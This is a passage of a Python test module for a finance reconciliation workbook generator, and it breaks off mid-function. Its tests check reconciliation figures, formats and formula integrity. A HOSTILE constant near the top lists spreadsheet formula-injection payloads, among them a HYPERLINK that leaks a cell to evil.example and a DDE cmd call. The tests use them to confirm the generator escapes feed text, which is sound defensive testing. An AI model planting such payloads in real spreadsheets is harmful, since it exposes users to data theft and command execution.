"""The finance workbook, read back as a reader without calculation would: figures, formats, texts, modes."""

from __future__ import annotations

import csv
import datetime as dt
import errno
import io
import re
import shutil
import subprocess
import sys
from collections import defaultdict
from collections.abc import Iterator
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path
from typing import Any, NamedTuple

import psycopg
import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils import range_boundaries
from openpyxl.utils.escape import unescape
from openpyxl.worksheet.worksheet import Worksheet
from typer.testing import CliRunner

from revlog.commands.closing import app as closing
from revlog.config.settings import ROOT, process_environment, settings
from revlog.contracts.contract import feeds
from revlog.database.connections import connect
from revlog.ingestion.load import load_feed
from revlog.night import stages
from revlog.night.errors import NightFailed
from revlog.outputs import escaping
from revlog.publication.publish import publish
from revlog.reports import sheets, workbook, workbook_sheets
from revlog.reports.workbook import WorkbookFailed, write_workbook, write_workbooks
from simulator.company import Company
from simulator.habits import DENSE
from simulator.run import simulate
from tests.nights import build_night

DAY = dt.date(2026, 1, 31)
# A period that no hostile row is in, so that the simulator's truth is all there is of it.
PERIOD, SPOILT = "2025-12", "2026-01"
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"look here")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
    "<r><t>x</t></r></is></c><c r='A1'><f>1+1</f></c><c t='inlineStr'><is><r></r>", '=cmd|"/c calc"!A1',
    "<b>&amp;'\"</b>", "_x003D_1+1",
)  # fmt: skip
SETTLEMENTS = (
    "settlement_id", "batch_no", "type", "refund_id", "gross_amount", "fee_amount", "net_amount", "currency",
    "settled_amount", "settled_currency", "fx_rate", "booked_at", "status",
)  # fmt: skip


class Books(NamedTuple):
    """A published company: what the simulator knows of it."""

    truth: Path


@pytest.fixture(scope="module")
def books(database: Path, tmp_path_factory: pytest.TempPathFactory) -> Books:
    """A company with defects, and settlements whose numbers are formulas, loaded, built and published."""
    truth = tmp_path_factory.mktemp("truth")
    simulate(
        Company(
            out=database, truth=truth, order_lines=1500, seed=4, start=dt.date(2025, 9, 1), history_end=DAY,
            nights=0, dirt=0.0, defects=1, habits=DENSE,
        )
    )  # fmt: skip
    _hostile_settlements(database / "erp" / "erp_payment_settlements_20260131_b.csv")
    for feed in feeds():
        load_feed(feed, DAY, lambda line: None)
    publish(build_night(DAY))
    return Books(truth / DAY.isoformat())


def _hostile_settlements(path: Path) -> None:
    text = io.StringIO()
    rows = csv.writer(text)
    rows.writerow(SETTLEMENTS)
    for number in HOSTILE:
        rows.writerow(
            [number, "B9", "refund", "", "-10.00", "0.00", "-10.00", "EUR", "-10.00", "EUR", "",
             "2026-01-20T10:00:00Z", "succeeded"]
        )  # fmt: skip
    rows.writerow(["TRAILER", len(HOSTILE), f"{-10 * len(HOSTILE)}.00"])
    path.write_text(text.getvalue(), encoding="utf-8", newline="")
    path.with_name(f"{path.name}.done").touch()


@pytest.fixture(scope="module")
def book(books: Books) -> Workbook:
    return load_workbook(write_workbook(PERIOD), data_only=True)


@pytest.fixture(scope="module")
def spoilt(books: Books) -> Workbook:
    return load_workbook(write_workbook(SPOILT))


def _table(sheet: Worksheet, head: str = "") -> list[dict[str, Any]]:
    """Rows below a head, as far as its first column goes; `head` is the head's first cell."""
    rows = sheet.iter_rows(values_only=True)
    wanted = head or _first_head(sheet)
    names = next(row for row in rows if row[0] == wanted)
    found = []
    for row in rows:
        if row[0] is None:
            break
        found.append({name: value for name, value in zip(names, row, strict=True) if name})
    return found


def _first_head(sheet: Worksheet) -> str:
    return str(sheet[sheet.print_title_rows.split(":")[0].strip("$")][0].value)


def _money(value: Any) -> Decimal:
    return Decimal(str(value)).quantize(Decimal("0.01"))


def _truth(books: Books, name: str, period: str) -> list[dict[str, str]]:
    with (books.truth / f"{name}.csv").open(encoding="utf-8") as file:
        return [row for row in csv.DictReader(file) if row["period"] == period and row["class"]]


def test_exceptions_are_those_that_the_company_knows_of(books: Books, book: Workbook) -> None:
    listed = {
        (row["Group"], row["Gap"], row["Class"]): (_money(row["Amount"]), row["Currency"])
        for row in _table(book["Exceptions"]) if row["Status"] != "cleared"
    }  # fmt: skip
    true = {
        (row["group_key"], row["gap"], row["class"]): (Decimal(row["amount"]), row["currency"])
        for row in _truth(books, "reconciliation", PERIOD)
    }
    assert len(true) > 20 and listed == true


def test_the_proof_bridges_by_what_the_company_knows_of(books: Books, book: Workbook) -> None:
    bridges: dict[tuple[str, ...], Decimal] = defaultdict(Decimal)
    for row in _table(book["Proof"]):
        if row["Kind"] == "bridge":
            bridges[row["Gap"], row["Class"], row["Currency"]] -= _money(row["Amount"])
    true: dict[tuple[str, ...], Decimal] = defaultdict(Decimal)
    for row in _truth(books, "reconciliation_periods", PERIOD):
        true[row["gap"], row["class"], row["currency"]] += Decimal(row["amount"])
    assert len(true) > 20
    assert {k: v for k, v in bridges.items() if v} == {k: v for k, v in true.items() if v}


def test_the_legs_are_the_sums_of_the_feeds(books: Books, book: Workbook) -> None:
    feeds_say = {
        "M": "select currency, sum(amount) from raw.erp_credit_memos"
        " where posted_on between '2025-12-01' and '2025-12-31' group by currency",
        "P": "select currency, -sum(gross_amount) from raw.erp_payment_settlements"
        " where (booked_at at time zone 'UTC')::date between '2025-12-01' and '2025-12-31'"
        " and status = 'succeeded' and type in ('refund', 'refund_failure', 'chargeback') group by currency",
    }
    rows = _table(book["Proof"])
    names = {"M": "Credit memos as in the source", "P": "Cash as in the source"}
    with connect("auditor") as connection:
        for leg, query in feeds_say.items():
            shown: dict[str, Decimal] = defaultdict(Decimal)
            for row in rows:
                if row["Line"] == names[leg]:
                    shown[row["Currency"]] += _money(row["Amount"])
            assert shown == dict(connection.execute(query).fetchall()), leg


def test_the_summary_shows_legs_gaps_and_checks_that_are_0(books: Books, book: Workbook) -> None:
    legs: dict[tuple[str, str], Decimal] = defaultdict(Decimal)
    for row in _table(book["Proof"]):
        if row["Kind"] == "leg":
            legs[row["Line"], row["Currency"]] += _money(row["Amount"])
    totals = [row for row in _table(book["Summary"], "Entity") if row["Entity"] == "All entities"]
    assert {row["Currency"] for row in totals} == {currency for _, currency in legs}
    for row in totals:
        entitled, credited = (legs[name, row["Currency"]] for name in ("Entitlement", "Credit memos"))
        assert _money(row["Entitlement (E)"]) == entitled and _money(row["Credit memos (M)"]) == credited
        assert _money(row["E − M"]) == entitled - credited
    checks = _table(book["Summary"], "Check")
    assert [row["Check"] for row in checks] == [
        "Gaps less their classes", "Bridges less exceptions", "Items less their documents",
        "Earlier items less their documents", "Legs less their documents",
        "Documents less their amounts there", "Opening to closing", "Closing less its items",
        "Opening to closing, day by day",
    ]  # fmt: skip
    assert {row[currency] for row in checks for currency in ("EUR", "GBP", "SEK", "USD")} == {0}


def test_a_check_that_is_not_0_shows_what_is_left(books: Books, tmp_path: Path) -> None:
    with connect("admin", autocommit=True) as connection:
        connection.execute(
            "create table public.kept as select * from finance.refund_exceptions"
            " where period = %s and class <> 'CUTOFF' and currency = 'EUR' and amount <> 0 limit 1", [PERIOD],
        )  # fmt: skip
        key = "(group_key, gap, class) in (select group_key, gap, class from public.kept)"
        connection.execute(f"update finance.refund_exception_items set amount = amount + 0.07 where {key}")
        try:
            found = load_workbook(write_workbook(PERIOD, tmp_path / "off.xlsx"), data_only=True)
        finally:
            connection.execute(
                f"update finance.refund_exception_items set amount = amount - 0.07 where {key}"
            )
            connection.execute("drop table public.kept")
    left = {row["Check"]: row["EUR"] for row in _table(found["Summary"], "Check")}
    # Its class is off from the proof by it, and the gap from its documents: by each of the gap's classes.
    assert left.pop("Bridges less exceptions") == 0.07
    assert left.pop("Items less their documents") in (0.07, 0.14, 0.21)
    assert set(left.values()) == {0}


def test_ages_and_classes_add_up_the_list(book: Workbook) -> None:
    listed: dict[tuple[str, ...], Decimal] = defaultdict(Decimal)
    items: dict[tuple[str, ...], int] = defaultdict(int)
    for row in _table(book["Exceptions"]):
        if row["Status"] != "cleared":
            listed[row["Gap"], row["Class"], row["Currency"], row["Age"]] += _money(row["Amount"])
            items[row["Gap"], row["Class"], row["Currency"]] += 1
    pivot = _table(book["By class and age"])
    ages = [name for name in pivot[0] if name.endswith(" days")]
    shown = {
        (row["Gap"], row["Class"], row["Currency"], age.removesuffix(" days")): _money(row[age])
        for row in pivot for age in ages if row[age] is not None
    }  # fmt: skip
    assert shown == listed
    assert {(r["Gap"], r["Class"], r["Currency"]): r["Items"] for r in pivot if r["Items"]} == items
    assert {row["Off by"] for row in pivot if row["Class"] != "CUTOFF"} == {0}


def test_each_open_item_of_earlier_periods_stands_in_it_however_old(books: Books, spoilt: Workbook) -> None:
    with connect("finance_reader") as connection:
        open_still = connection.execute(
            "select period, group_key, gap, class, amount from finance.refund_exceptions"
            " where period < %s and status in ('open', 'waiting')", [SPOILT],
        ).fetchall()  # fmt: skip
    listed = [
        (row["Period"], row["Group"], row["Gap"], row["Class"], _money(row["Amount"]))
        for row in _table(spoilt["Earlier open items"])
    ]
    assert len(open_still) > 20 and sorted(listed) == sorted(open_still)
    assert len({period for period, *_ in listed}) > 2


def test_what_is_at_stake_does_not_cancel_out(books: Books, book: Workbook) -> None:
    shown = {row["Currency"]: row for row in _table(book["Summary"], "Of all gaps")}
    # Of a group and class each amount once, and of cash and refunds issued the larger.
    items: dict[tuple[str, ...], dict[str, Decimal]] = defaultdict(dict)
    for row in _table(book["Exceptions"]):
        if row["Status"] in ("open", "waiting"):
            key = row["Currency"], row["Group"], row["Class"]
            items[key][row["Gap"]] = abs(_money(row["Open"]))
    gross: dict[str, Decimal] = defaultdict(Decimal)
    for (currency, *_), amounts in items.items():
        paid_or_issued = max(amounts.pop("M-P", Decimal(0)), amounts.pop("M-T", Decimal(0)))
        gross[currency] += sum({*amounts.values(), paid_or_issued}, Decimal(0))
    assert any(set(amounts) & {"M-G"} for amounts in items.values())
    at_stake = {currency: _money(row["Gross, of the period"]) for currency, row in shown.items()}
    assert {currency: amount for currency, amount in at_stake.items() if amount} == gross
    paid: dict[str, Decimal] = defaultdict(Decimal)
    for row in _table(book["Proof"]):
        if row["Kind"] == "leg" and row["Line"] == "Cash":
            paid[row["Currency"]] += _money(row["Amount"])
    # 0.5 % of the cash
    assert {c: _money(row["Materiality"]) for c, row in shown.items()} == {
        currency: _money(abs(amount) / 200) for currency, amount in paid.items()
    }


def test_an_exception_leads_to_all_documents_of_its_group(books: Books, book: Workbook) -> None:
    sheet = book["Exceptions"]
    head = next(row for row in sheet.iter_rows() if row[0].value == _first_head(sheet))
    at = {cell.value: cell.column for cell in head}
    documents = _table(book["Documents"])
    with connect("finance_reader") as connection:
        for row in range(head[0].row + 1, head[0].row + 12):
            group = sheet.cell(row, at["Group"]).value
            link = sheet.cell(row, at["Documents"]).hyperlink
            place = int(link.location.rsplit("!A", 1)[1])
            names = [cell.value for cell in next(book["Documents"].iter_rows(5, 5))]
            assert book["Documents"].cell(place, names.index("Group") + 1).value == group
            ((count,),) = connection.execute(
                "select count(*) from finance.refund_documents where group_key = %s and effective_on <= %s",
                [group, DAY],
            ).fetchall()
            assert sum(row["Group"] == group for row in documents) == count


def test_a_decision_stands_with_its_item_while_the_amount_is_the_same(books: Books, tmp_path: Path) -> None:
    with connect("finance_reader") as connection:
        group, gap, name, amount = connection.execute(
            "select group_key, gap, class, amount from finance.refund_exceptions as e"
            " where period = %s and status = 'open' order by group_key, gap, class limit 1", [PERIOD],
        ).fetchall()[0]  # fmt: skip
    said = ["--group", group, "--gap", gap, "--class", name, "--by", "A. Controller", "--note", "=seen"]
    done = CliRunner().invoke(closing, ["resolve", *said, "--as", "accept"])
    assert done.exit_code == 0, done.output
    assert f"{amount:,.2f}" in done.stdout and "accept by A. Controller" in done.stdout
    key = {"Group": group, "Gap": gap, "Class": name}
    assert _decided(tmp_path, key) == ["accept", "A. Controller", "=seen"]
    with connect("admin", autocommit=True) as connection:
        item = [amount + 1, group, gap, name]
        change = (
            "update finance.refund_exception_items set amount = %s"
            " where (group_key, gap, class) = (%s, %s, %s)"
        )
        connection.execute(change, item)
        try:
            assert _decided(tmp_path, key) == [f"accept, when it was {amount}", "A. Controller", "=seen"]
        finally:
            connection.execute(change, [amount, *item[1:]])
    assert CliRunner().invoke(closing, ["resolve", *said, "--as", "undecided"]).exit_code == 0
    assert _decided(tmp_path, key) == [None, None, None]


def test_what_was_decided_on_is_no_longer_left_in_the_exposure(
    books: Books, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The largest two items of euro: one is accepted, one written off; a third is pursued."""
    with connect("finance_reader") as connection:
        items = connection.execute(
            "select group_key, gap, class, gross_amount from finance.refund_exceptions"
            " where period = %s and currency = 'EUR' and status = 'open' and gross_amount > 0"
            " order by gross_amount desc, group_key, gap, class limit 3", [PERIOD],
        ).fetchall()  # fmt: skip
    monkeypatch.setenv("MATERIALITY_PCT", "0.001")
    before = _exposure(tmp_path)
    said = [["--group", key, "--gap", gap, "--class", name, "--by", "A"] for key, gap, name, _ in items]
    kinds = ("accept", "write_off", "pursue")
    for words, kind in zip(said, kinds, strict=True):
        done = CliRunner().invoke(closing, ["resolve", *words, "--as", kind, "--note", "seen"])
        assert done.exit_code == 0, done.output
    try:
        after = _exposure(tmp_path)
    finally:
        for words in said:
            CliRunner().invoke(closing, ["resolve", *words, "--as", "undecided"])
    accepted, written_off = (amount for *_, amount in items[:2])
    assert (_money(after["Of both accepted"]), _money(after["Of both written off"])) == (
        accepted,
        written_off,
    )
    for name in ("Gross, of the period", "Gross, of earlier ones", "Net, of the chain", "Materiality"):
        assert after[name] == before[name]
    assert _money(after["Gross, left"]) == _money(before["Gross, left"]) - accepted - written_off
    assert written_off > _money(after["Materiality"])
    assert after["Left above it"] == before["Left above it"] - 2


def _exposure(folder: Path) -> dict[str, Any]:
    found = load_workbook(write_workbook(PERIOD, folder / "exposure.xlsx"), data_only=True)
    (row,) = [r for r in _table(found["Summary"], "Of all gaps") if r["Currency"] == "EUR"]
    return row


def _decided(folder: Path, key: dict[str, str]) -> list[Any]:
    found = load_workbook(write_workbook(PERIOD, folder / "decided.xlsx"), data_only=True)
    (row,) = [r for r in _table(found["Exceptions"]) if key.items() <= r.items()]
    return [row[name] for name in ("Decided", "By", "Why")]


@pytest.mark.parametrize(
    ("words", "refusal"),
    [
        (["--as", "forget", "--by", "A"], "is no decision; there are accept, write_off"),
        (["--as", "accept", "--by", " "], "nobody decides"),
        (["--as", "write_off", "--by", "A"], "a write-off says why"),
        (["--as", "accept", "--by", "A"], "no open item of group 'NONE'"),
    ],
)
def test_a_decision_that_says_too_little_is_refused(books: Books, words: list[str], refusal: str) -> None:
    refused = CliRunner().invoke(closing, ["resolve", "--group", "NONE", *words])
    assert (refused.exit_code, refusal in refused.stderr) == (1, True), refused.stderr


def test_lists_print_what_a_page_holds_and_the_days_not_at_all(book: Workbook) -> None:
    widths = {
        name: sum(book[name].column_dimensions[chr(ord("A") + n)].width for n in range(columns))
        for name, columns in (
            ("Summary", 13),
            ("Proof", 9),
            ("By class and age", 15),
            ("Exceptions", 12),
            ("Earlier open items", 13),
        )
    }
    # A page of A4 across holds some 130 characters of 11 points; 180 of them stand in 8 points.
    assert {name: width for name, width in widths.items() if width > 185} == {}
    assert str(book["Exceptions"].print_area).split("!")[-1].startswith("$A$1:$L$")
    assert str(book["Roll-forward by day"].print_area).split("!")[-1] == "$A$1:$J$2"


def test_a_printed_item_names_its_group_and_its_texts_break_rather_than_run_over(book: Workbook) -> None:
    sheet = book["Exceptions"]
    head = next(row for row in sheet.iter_rows() if row[0].value == _first_head(sheet))
    at = {cell.value: cell.column for cell in head}
    assert at["Group"] <= 12 < at["Documents"]
    wrapped = ("Owner", "Next action")
    assert {sheet.cell(head[0].row + 1, at[name]).alignment.wrap_text for name in wrapped} == {True}
    # What does not fit in one line has room for more.
    long = [
        row[0].row for row in sheet.iter_rows(min_row=head[0].row + 1)
        if len(str(row[at["Next action"] - 1].value or "")) > 60
    ]  # fmt: skip
    assert long and all(sheet.row_dimensions[number].height >= 30 for number in long)


def test_the_month_before_stands_beside_each_total(books: Books, book: Workbook) -> None:
    shown = {(r["Entity"], r["Currency"]): r for r in _table(book["Summary"], "Entity")}
    legs: dict[tuple[str, str], Decimal] = defaultdict(Decimal)
    with connect("finance_reader") as connection:
        for period, currency, amount in connection.execute(
            "select period, currency, amount from finance.refund_proof where line = 'leg' and leg = 'P'"
        ):
            legs[period, currency] += amount
    for currency in ("EUR", "GBP", "SEK", "USD"):
        now, then = legs[PERIOD, currency], legs["2025-11", currency]
        rows = [shown[f"All entities{of}", currency] for of in ("", " in 2025-11")]
        assert [_money(row["Cash (P)"]) for row in rows] == [now, then]
        assert _money(shown["Change", currency]["Cash (P)"]) == now - then
    assert len({currency for period, currency in legs if period == "2025-11"}) == 4


def test_the_month_before_is_a_formula_over_its_sheet(books: Books, tmp_path: Path) -> None:
    found = load_workbook(write_workbook(PERIOD, tmp_path / "formulas.xlsx"))
    rows = [r for r in _table(found["Summary"], "Entity") if r["Entity"] == "All entities in 2025-11"]
    assert len(rows) == 4
    for row in rows:
        amounts = [value for name, value in row.items() if name not in ("Entity", "Currency")]
        assert len(amounts) == 11 and all("'Period before'!" in str(value) for value in amounts)
    legs = _table(found["Period before"])
    assert legs and all(str(row["E − M"]).startswith("=ROUND(C") for row in legs)


def test_a_sign_off_has_room_for_three_names(book: Workbook) -> None:
    said = [row[0] for row in book["Summary"].iter_rows(max_row=16, values_only=True)]
    assert said[said.index("Sign-off") + 1 :][:3] == ["Prepared by", "Reviewed by", "Approved by"]


def test_the_roll_forward_closes_with_what_the_last_day_of_the_mart_says(book: Workbook) -> None:
    with connect("finance_reader") as connection:
        closing = {
            (gap, name, currency): amount
            for gap, name, currency, amount in connection.execute(
                "select gap, class, currency, closing_amount from finance.reconciliation_rollforward"
                " where day = '2025-12-31' and closing_amount <> 0"
            )
        }
    shown = {
        (row["Gap"], row["Class"], row["Currency"]): _money(row["Closing"])
        for row in _table(book["Roll-forward"]) if row["Closing"]
    }  # fmt: skip
    assert shown == closing and len(closing) > 20


def test_the_roll_forward_closes_with_items_that_are_listed(book: Workbook) -> None:
    listed: dict[tuple[str, ...], list[Decimal]] = defaultdict(list)
    for row in _table(book["Open at the end"]):
        listed[row["Gap"], row["Class"], row["Currency"]].append(_money(row["Amount"]))
    closing = {
        (row["Gap"], row["Class"], row["Currency"]): (row["Items at the end"], _money(row["Closing"]))
        for row in _table(book["Roll-forward"])
        if row["Class"] and row["Items at the end"]
    }
    assert len(closing) > 3
    assert {key: (len(amounts), sum(amounts)) for key, amounts in listed.items()} == closing


def test_the_documents_are_all_that_the_proof_starts_from(book: Workbook) -> None:
    listed: dict[tuple[str, ...], Decimal] = defaultdict(Decimal)
    for row in (row for row in _table(book["Documents"]) if row["Period"] == PERIOD):
        listed[
            f"{workbook_sheets.LEG_NAMES[row['Leg']]} as in the source", row["Entity"], row["Currency"]
        ] += _money(row["Amount"])
    proof = {
        (row["Line"], row["Entity"], row["Currency"]): _money(row["Amount"])
        for row in _table(book["Proof"]) if row["Kind"] == "source"
    }  # fmt: skip
    assert listed == proof and len(proof) > 15


def test_a_document_leads_to_its_file_and_line(books: Books, book: Workbook) -> None:
    row = next(r for r in _table(book["Documents"]) if r["Leg"] == "P")
    with connect("auditor") as connection:
        found = connection.execute(
            "select s.settlement_id, -s.gross_amount from raw.erp_payment_settlements as s"
            " inner join ops.file_ledger as f on f.file_id = s._file_id"
            " where f.name = %s and s._line_no = %s", [row["File"], row["Line"]],
        ).fetchall()  # fmt: skip
    assert found == [(row["Document"], _money(row["Amount"]))]


# --- Cells


def test_amounts_are_numbers_and_dates_are_dates(book: Workbook) -> None:
    for sheet, names in (("Exceptions", ("Amount", "Open since")), ("Documents", ("Amount", "Day"))):
        head = next(row for row in book[sheet].iter_rows() if row[0].value == _first_head(book[sheet]))
        at = {cell.value: cell.column for cell in head}
        amount, day = (book[sheet].cell(head[0].row + 1, at[name]) for name in names)
        assert (amount.data_type, amount.number_format) == ("n", "#,##0.00;[Red]-#,##0.00;#,##0.00")
        assert day.is_date and isinstance(day.value, dt.datetime) and day.number_format == "yyyy-mm-dd"


def test_each_currency_has_its_own_decimals() -> None:
    assert sheets.amount_format("JPY") == "#,##0;[Red]-#,##0;#,##0"
    assert sheets.amount_format("EUR") == "#,##0.00;[Red]-#,##0.00;#,##0.00"


def test_an_amount_of_more_digits_than_excel_keeps_is_a_text_and_no_other_number() -> None:
    assert sheets.is_exact(Decimal("9999999999999.99")) and not sheets.is_exact(Decimal("99999999999999.99"))


def test_heads_stay_filter_and_repeat(book: Workbook) -> None:
    lists = [sheet for sheet in book if sheet.title not in ("Summary", "Terms")]
    assert len(lists) == 11
    for sheet in lists:
        head = sheet.print_title_rows.split(":")[0].strip("$")
        assert sheet.freeze_panes and sheet.freeze_panes.endswith(str(int(head) + 1)), sheet.title
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith(f"A{head}:"), sheet.title
    for sheet in book:
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.page_setup.fitToHeight == 0 and sheet.sheet_properties.pageSetUpPr.fitToPage


def test_what_a_feed_says_is_never_a_formula(spoilt: Workbook) -> None:
    found = {
        unescape(cell.value): cell
        for sheet in ("Documents", "Exceptions") for row in spoilt[sheet].iter_rows() for cell in row
        if isinstance(cell.value, str) and any(value.strip() in unescape(cell.value) for value in HOSTILE)
    }  # fmt: skip
    assert {value.strip() for value in HOSTILE} <= {value.strip() for value in found}
    assert {f"SET:{value.strip()}" for value in HOSTILE} <= {value.strip() for value in found}
    assert {(cell.data_type, cell.quotePrefix) for cell in found.values()} == {("s", True)}


def test_every_formula_is_one_of_ours(spoilt: Workbook) -> None:
    formulas = [
        cell.value for sheet in spoilt for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    area = r"'[^'()]+'![$A-Z\d:]+"
    some = rf"({area}([-+]{area})*|ROUND\({area}\*{area},2\)-{area})"
    sums = rf"SUMPRODUCT\((\({area}=\"[^\"]*\"\)\*)*ABS\({some}\)\)"
    same = rf"SUMPRODUCT\((\({area}=[A-Z]+\d+\)\*)+{area}\)\+[A-Z]+\d+"
    item = rf"{same}-SUMIFS\([^()]*\)\+SUMIFS\([^()]*\)"
    listed = r"(SUM|COUNT)IFS\([^()]*\)(\+(SUM|COUNT)IFS\([^()]*\))*"
    share = r"ABS\(SUMIFS\([^()]*\)\)\*[\d.]+/100"
    cells = r"[-+]?[A-Z]+\d+([-+][A-Z]+\d+)*|0"
    ours = re.compile(rf"=ROUND\((-?{listed}|{share}|{sums}|{item}|{cells}),2\)")
    assert len(formulas) > 100 and [text for text in formulas if not ours.fullmatch(text)] == []
    assert not any("evil" in text or "cmd" in text for text in formulas)


def test_a_text_can_not_end_its_literal_in_a_formula() -> None:
    assert escaping.formula_text('a",1)+HYPERLINK("x') == '"a"",1)+HYPERLINK(""x"'


def test_a_text_longer_than_a_cell_is_cut_and_says_so() -> None:
    cut = escaping.sheet_text("x" * 40_000)
    assert len(cut) == 32_767 and cut.endswith("…")


def test_formulas_come_to_the_values_that_are_stored(books: Books, book: Workbook) -> None:
    written = load_workbook(write_workbook(PERIOD))
    cells = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in written for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]  # fmt: skip
    off = [
        (sheet, at, formula)
        for sheet, at, formula in cells
        if abs(_calculate(book, book[sheet], formula) - book[sheet][at].value) > 0.004
    ]
    assert len(cells) > 200 and off == []


def _calculate(book: Workbook, sheet: Worksheet, formula: str) -> float:
    """What a formula of ours comes to: a rounded sum of cells, or of those that conditions choose."""
    inner = formula.removeprefix("=ROUND(").removesuffix(",2)")
    if inner.startswith("-SUMIFS("):
        return -_calculate(book, sheet, formula.replace("=ROUND(-", "=ROUND(", 1))
    if ")*ABS(" in inner:
        return round(_absolute(book, inner), 2)
    if inner.startswith("SUMPRODUCT("):
        return round(_listed_less_documents(book, sheet, inner), 2)
    if inner.startswith("ABS("):
        cash, percent = inner.removeprefix("ABS(").removesuffix("/100").split(")*")
        exact = Decimal(str(abs(_calculate(book, sheet, f"=ROUND({cash},2)")))) * Decimal(percent) / 100
        return float(exact.quantize(Decimal("0.01"), ROUND_HALF_UP))
    parts = re.split(r"\+(?=(?:SUM|COUNT)IFS\()", inner)
    if len(parts) > 1:
        return round(sum(_calculate(book, sheet, f"=ROUND({part},2)") for part in parts), 2)
    if inner.startswith("COUNTIFS("):
        return _counted(book, sheet, inner)
    if not inner.startswith("SUMIFS("):
        signed = re.findall(r"([-+]?)([A-Z]+\d+)", inner)
        return round(sum((-1 if sign == "-" else 1) * sheet[at].value for sign, at in signed), 2)
    amounts, *rest = inner.removeprefix("SUMIFS(").removesuffix(")").split(",")
    conditions = [(_column(book, rest[n]), rest[n + 1].strip('"')) for n in range(0, len(rest), 2)]
    chosen = [
        amount or 0
        for place, amount in enumerate(_column(book, amounts))
        if all(str(values[place]) == wanted for values, wanted in conditions)
    ]
    return round(sum(chosen), 2)


def _counted(book: Workbook, sheet: Worksheet, part: str) -> int:
    """How many rows have the texts, and more than a cell where a criterion says so."""
    given = part.removeprefix("COUNTIFS(").removesuffix(")").split(",")
    conditions = [(_column(book, given[n]), given[n + 1]) for n in range(0, len(given), 2)]

    def holds(value: Any, wanted: str) -> bool:
        if wanted.startswith('">"&'):
            return value is not None and value > sheet[wanted.removeprefix('">"&')].value
        if wanted.startswith('"<>'):
            return str(value) != wanted.strip('"').removeprefix("<>")
        return str(value) == wanted.strip('"')

    rows = range(len(conditions[0][0]))
    return sum(all(holds(values[row], wanted) for values, wanted in conditions) for row in rows)


def _absolute(book: Workbook, part: str) -> float:
    """Absolute amounts of the rows whose columns are as the factors say."""
    factors = re.findall(r"\(('[^']+'![^=]+)=\"([^\"]*)\"\)", part)
    wanted = [(_column(book, area), value) for area, value in factors]
    inner = part.split("ABS(", 1)[1].removesuffix("))")
    is_product = inner.startswith("ROUND(")
    areas = re.findall(r"([-+*]?)('[^'()]+'![$A-Z\d:]+)", inner)
    columns = [(sign, _column(book, area)) for sign, area in areas]
    found = 0.0
    for place in range(len(columns[0][1])):
        if not all(str(values[place]) == value for values, value in wanted):
            continue
        cells = [(sign, values[place] or 0) for sign, values in columns]
        if is_product:
            (_, amount), (_, rate), (_, there) = cells
            found += abs(round(amount * rate, 2) - there)
        else:
            found += abs(sum(-cell if sign == "-" else cell for sign, cell in cells))
    return found


def _listed_less_documents(book: Workbook, sheet: Worksheet, inner: str) -> float:
    """Amounts of the rows with the cells' group and gap, and a cell; less and with two sums of documents."""
    product, left, right = re.split(r"[-+](?=SUMIFS)", inner)
    factors = re.findall(r"\(('[^']+'![^=]+)=([A-Z]+\d+)\)", product)
    wanted = [(_column(book, area), sheet[at].value) for area, at in factors]
    (area,) = re.findall(r"\*('[^'()]+'![$A-Z\d:]+)\)", product)
    listed = sum(
        amount or 0
        for place, amount in enumerate(_column(book, area))
        if all(values[place] == value for values, value in wanted)
    )
    explained = sheet[product.rsplit("+", 1)[1]].value or 0
    sums = [_calculate(book, sheet, f"=ROUND({part},2)") for part in (left, right)]
    return float(listed + explained - sums[0] + sums[1])


def _column(book: Workbook, area: str) -> list[Any]:
    name, cells = area.rsplit("!", 1)
    left, top, _, bottom = range_boundaries(cells.replace("$", ""))
    column = book[name.strip("'")].iter_rows(top, bottom, left, left, values_only=True)
    return [value for (value,) in column]


# What is made 10 dearer: a sheet, which row of it, which amount, and the check that must say so.
EDITS: dict[str, tuple[str, dict[str, str], str, str]] = {
    "a document": ("Documents", {"Period": PERIOD, "Leg": "M"}, "Amount", "Legs less their documents"),
    "a document of another period": (
        "Documents", {"Period": "2025-11"}, "Amount", "Documents less their amounts there",
    ),
    "what it is in its group": (
        "Documents", {"Period": "2025-11"}, "Amount there", "Documents less their amounts there",
    ),
    "an item that may still come": (
        "Exceptions", {"Class": "CUTOFF"}, "Amount", "Items less their documents",
    ),
    "an earlier item": ("Earlier open items", {}, "Amount", "Earlier items less their documents"),
    "what a day opens with": ("Roll-forward by day", {}, "Opening", "Opening to closing, day by day"),
    "what a day brings": ("Roll-forward by day", {}, "+ new", "Opening to closing, day by day"),
    "what a day closes with": ("Roll-forward by day", {}, "Closing", "Opening to closing, day by day"),
}  # fmt: skip


@pytest.fixture(scope="module")
def recalculated(books: Books, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Workbook]:
    """LibreOffice's own values of a book as it was written, and of each with one amount 10 dearer."""
    if not shutil.which("soffice"):
        pytest.skip("no LibreOffice here: apt install libreoffice-calc")
    folder = tmp_path_factory.mktemp("office")
    for number, edit in enumerate(["", *EDITS]):
        # An item of December may still come as of a night in December only.
        period = SPOILT if edit == "an item that may still come" else PERIOD
        bare = load_workbook(write_workbook(period))
        if edit:
            _make_dearer(bare, *EDITS[edit][:3])
        bare.save(folder / f"{number}.xlsx")
    made = folder / "made"
    command = [
        "soffice",
        f"-env:UserInstallation=file://{folder}/profile",
        "--headless",
        "--convert-to",
        "xlsx",
    ]
    files = [str(folder / f"{number}.xlsx") for number in range(len(EDITS) + 1)]
    subprocess.run([*command, "--outdir", str(made), *files], check=True, capture_output=True, timeout=600)
    return {
        edit: load_workbook(made / f"{number}.xlsx", data_only=True)
        for number, edit in enumerate(["", *EDITS])
    }


def _make_dearer(book: Workbook, name: str, wanted: dict[str, str], amount: str) -> None:
    """Add 10 to an amount in euro, of the first row that is as wanted."""
    sheet = book[name]
    head = next(row for row in sheet.iter_rows() if row[0].value == _first_head(sheet))
    at = {cell.value: cell.column - 1 for cell in head}
    row = next(
        row for row in sheet.iter_rows(min_row=head[0].row + 1)
        if row[at["Currency"]].value == "EUR" and row[at[amount]].value
